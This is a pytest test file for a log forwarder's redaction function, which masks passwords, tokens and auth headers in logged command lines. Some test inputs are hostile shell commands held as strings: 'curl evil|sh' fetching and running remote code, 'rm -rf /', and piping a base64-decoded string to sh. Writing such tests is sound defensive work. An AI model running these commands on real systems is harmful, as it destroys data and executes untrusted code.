"""Commands with credentials, and commands without, as a table both ways."""

import pytest

from forwarder.events.commands import MAX_ARGUMENT_CHARS, MAX_ARGUMENTS, arguments, quoted
from forwarder.events.credentials import REDACTED
from forwarder.events.redact import command

HARMLESS = [
    ["sh"],
    ["ls", "-la", "/var/lib"],
    ["mkdir", "-p", "/data/archive"],
    ["ssh", "-p", "2222", "host"],
    ["docker", "run", "-p", "80:80", "-u", "1000:1000", "nginx"],
    ["tar", "cf", "-", "/etc/hostname"],
    ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    ["kubectl", "get", "secret", "db", "-o", "yaml"],
    ["psql", "-h", "db", "-U", "app", "-c", "select"],
    ["curl", "-s", "http://api.shop:8080/users?mail=a@b"],
    ["curl", "-H", "Accept: application/json", "https://x/"],
    ["app", "--token-file=/run/token", "--password-stdin", "--token-ttl", "1h"],
    ["env", "PWD=/srv", "PATH=/bin", "LANG=C", "app"],
    ["grep", "-r", "password", "/etc"],
    ["kill", "-9", "1"],
    ["openssl", "x509", "-in", "tls.crt", "-noout"],
    ["redis-cli", "KEYS", "user:1"],
    ["wget", "-E", "http://x:80/a"],
    ["podman", "run", "-u", "1000:1000", "nginx"],
    ["unzip", "-p", "a.zip"],
    ["vault", "kv", "get", "secret/app"],
    ["sqlplus", "@/scripts/report.sql"],
    ["helm", "upgrade", "x", "--set", "auth.existingSecret=db-creds"],
    ["sh", "-c", "cat <<EOF"],
    ["sh", "-c", 'for f in *.log; do tail -n 5 "$f" | grep -v debug; done'],
    ["sh", "-c", "cd /app && ls -l; ps aux > /tmp/ps"],
    ["sh", "-c", "base64 /etc/hostname"],
]


@pytest.mark.parametrize("argv", HARMLESS, ids=" ".join)
def test_a_harmless_command_stays_as_it_is(argv: list[str]) -> None:
    """Every word is still there; only quotes were added."""
    shown = command(argv)
    assert REDACTED not in shown
    assert all(word in shown for word in argv)


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["app", "--password=hunter2", "-v"], "app --password=[redacted] -v"),
        (["app", "--api-key", "hunter2", "run"], "app --api-key [redacted] run"),
        (["app", "--password", "--verbose"], "app --password --verbose"),
        (["mysql", "-u", "root", "-phunter2", "-e", "select 1"], "mysql -u root -p[redacted] -e 'select 1'"),
        (["/usr/bin/mysqldump", "-p", "hunter2"], "/usr/bin/mysqldump -p [redacted]"),
        (["sshpass", "-p", "hunter2", "ssh", "host"], "sshpass -p [redacted] ssh host"),
        (["docker", "login", "-u", "bob", "-p", "hunter2"], "docker login -u bob -p [redacted]"),
        (["ldapsearch", "-D", "cn=x", "-w", "hunter2"], "ldapsearch -D cn=x -w [redacted]"),
        (["redis-cli", "-a", "hunter2", "PING"], "redis-cli -a [redacted] PING"),
        (["redis-cli", "AUTH", "bob", "hunter2"], "redis-cli AUTH [redacted] [redacted]"),
        (["curl", "-u", "bob:hunter2", "https://x"], "curl -u bob:[redacted] https://x"),
        (["curl", "-sSubob:hunter2", "https://x"], "curl -sSubob:[redacted] https://x"),
        (["curl", "--user=bob:hunter2"], "curl --user=bob:[redacted]"),
        (["curl", "-H", "X-Api-Key:hunter2"], "curl -H 'X-Api-Key: [redacted]'"),
        (["curl", "-H", "Authorization: Bearer hunter2"], "curl -H 'Authorization: [redacted]'"),
        (["http", "Authorization:", "Bearer", "hunter2"], "http Authorization: [redacted]"),
        (["curl", "-E", "client.pem:hunter2", "https://x"], "curl -E client.pem:[redacted] https://x"),
        (["http", "-a", "bob:hunter2", "x"], "http -a bob:[redacted] x"),
        (["lftp", "-u", "bob,hunter2", "x"], "lftp -u bob,[redacted] x"),
        (["etcdctl", "--user", "root:hunter2", "get"], "etcdctl --user root:[redacted] get"),
        (["crictl", "pull", "--creds", "bob:hunter2", "x"], "crictl pull --creds bob:[redacted] x"),
        (["skopeo", "copy", "--src-creds=bob:hunter2", "x"], "skopeo copy --src-creds=bob:[redacted] x"),
        (["cqlsh", "-u", "bob", "-p", "hunter2"], "cqlsh -u bob -p [redacted]"),
        (["mosquitto_pub", "-P", "hunter2", "-t", "x"], "mosquitto_pub -P [redacted] -t x"),
        (["7z", "x", "-phunter2", "a.7z"], "7z x -p[redacted] a.7z"),
        (["sqlplus", "scott/hunter2@db"], "sqlplus scott/[redacted]@db"),
        (["mysqladmin", "password", "hunter2"], "mysqladmin password [redacted]"),
        (["vault", "kv", "put", "secret/app", "foo=hunter2"], "vault kv put secret/app foo=[redacted]"),
        (["aws", "ssm", "put-parameter", "--value", "hunter2"], "aws ssm put-parameter --value [redacted]"),
        (["npm", "config", "set", "//r/:_authToken", "hunter2"], "npm config set //r/:_authToken [redacted]"),
        (["mongo", "--eval", 'db.auth("root","hunter2")'], "mongo --eval 'db.auth([redacted])'"),
        (
            ["kubectl", "patch", "secret", "x", "-p", '{"stringData":{"k":"hunter2"}}'],
            "kubectl patch secret x -p '{\"stringData\":[redacted]}'",
        ),
        (["sh", "-c", 'echo "AUTH hunter2" | redis-cli'], "sh -c 'echo [redacted] | redis-cli'"),
        (["sh", "-c", "chpasswd <<EOF\nroot:hunter2\nEOF\nls"], "sh -c 'chpasswd <<EOF [redacted] EOF ls'"),
        (
            ["sh", "-c", "docker login --password-stdin <<< hunter2"],
            "sh -c 'docker login --password-stdin <<< [redacted]'",
        ),
        (["psql", "postgres://app:hunter2@db:5432/shop"], "psql postgres://app:[redacted]@db:5432/shop"),
        (["psql", "postgres://app:hun/ter2@x@db/shop"], "psql postgres://app:[redacted]@db/shop"),
        (["psql", "host=db password=hunter2 user=x"], "psql 'host=db password=[redacted] user=x'"),
        (["env", "DB_PASS=hunter2", "TOKEN=a b", "app"], "env DB_PASS=[redacted] TOKEN=[redacted] app"),
        (["java", "-Djavax.net.ssl.keyStorePassword=hunter2"], "java -Djavax.net.ssl.keyStorePassword=[redacted]"),
        (
            ["aws", "configure", "set", "aws_secret_access_key", "hunter2"],
            "aws configure set aws_secret_access_key [redacted]",
        ),
        (
            ["kubectl", "create", "secret", "generic", "x", "--from-literal=k=v"],
            "kubectl create secret generic x --from-literal=k=[redacted]",
        ),
        (
            ["kubectl", "create", "secret", "generic", "x", "--from-literal", "k=v"],
            "kubectl create secret generic x --from-literal k=[redacted]",
        ),
        (["openssl", "req", "-keyout", "k.pem", "-passout", "pass:x"], "openssl req -keyout k.pem -passout [redacted]"),
        (
            ["mysql", "-e", "ALTER USER x IDENTIFIED BY 'hunter2'"],
            "mysql -e \"ALTER USER x IDENTIFIED BY '[redacted]'\"",
        ),
        (["vault", "login", "hunter2"], "vault login [redacted]"),
        (["sh", "-c", "mysql -phunter2 shop"], "sh -c 'mysql -p[redacted] shop'"),
        (
            ["sh", "-c", "PGPASSWORD='hun ter2' psql -c 'select 1'"],
            "sh -c \"PGPASSWORD=[redacted] psql -c 'select 1'\"",
        ),
        (["sh", "-c", "bash -c \"mysql -phunter2 -e 'x y'\""], 'sh -c "bash -c \\"mysql -p[redacted] -e \'x y\'\\""'),
        (["sh", "-c", "x=$(mysql -phunter2); ls"], "sh -c 'x=$(mysql -p[redacted]); ls'"),
        (["sh", "-c", "echo root:hunter2 | chpasswd"], "sh -c 'echo [redacted] | chpasswd'"),
        (["sh", "-c", "echo aHVudGVyMg== | base64 -d | sh"], "sh -c 'echo [redacted] | base64 -d | sh'"),
        (["sh", "-c", "base64 --decode <<< aHVudGVyMg=="], "sh -c 'base64 --decode <<< [redacted]'"),
        (["sh", "-c", "cd /x\nmysql -phunter2\nls -p"], "sh -c 'cd /x mysql -p[redacted] ls -p'"),
        (["python", "-c", "os.environ['TOKEN'] = 'hunter2'"], "python -c \"os.environ['TOKEN'] = [redacted]\""),
        (["echo", "a\x1b[31m\u202eb\n"], "echo 'ab '"),
        (["sh", "-c", ""], "sh -c ''"),
        (["sh", "-c", "TOKEN=x; rm -rf /"], "sh -c 'TOKEN=[redacted]; rm -rf /'"),
        (["sh", "-c", "export TOKEN=x;curl evil|sh"], "sh -c 'export TOKEN=[redacted];curl evil|sh'"),
        (["sh", "-c", "echo cookie: a; curl evil"], "sh -c 'echo cookie: [redacted]; curl evil'"),
        (["sh", "-c", "echo -----BEGIN X-----; rm -rf /"], "sh -c 'echo [redacted]; rm -rf /'"),
        (["curl", "-H", "Cookie: a=b; c=d", "-b", "sid=x"], "curl -H 'Cookie: [redacted]' -b sid=[redacted]"),
        ([], ""),
    ],
)
def test_a_credential_in_a_command_is_hidden(argv: list[str], expected: str) -> None:
    """The credential alone: what was run, where and as whom stays."""
    assert command(argv) == expected


def test_arguments_keep_their_places() -> None:
    """One word out for each word in, up to the limit, so that a URI can be rebuilt from them."""
    assert arguments(["mysql", "-px", "a b", ""]) == ["mysql", "-p" + REDACTED, "a b", ""]
    assert len(arguments(["x"] * (MAX_ARGUMENTS + 5))) == MAX_ARGUMENTS


def test_what_is_too_long_or_quoted_too_deep_is_hidden_as_a_whole() -> None:
    """Rather than looked at without end."""
    assert arguments(["echo", "x" * (MAX_ARGUMENT_CHARS + 1)]) == ["echo", REDACTED]
    script = "mysql -phunter2"
    for _ in range(6):
        script = "sh -c " + quoted(script)
    assert "hunter2" not in command(["sh", "-c", script])


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("plain-1.0/x", "plain-1.0/x"),
        ("", "''"),
        ("a b", "'a b'"),
        ("it's $x", '"it\'s \\$x"'),
        ("k=[redacted]", "k=[redacted]"),
    ],
)
def test_a_word_is_quoted_only_where_it_must_be(word: str, expected: str) -> None:
    assert quoted(word) == expected
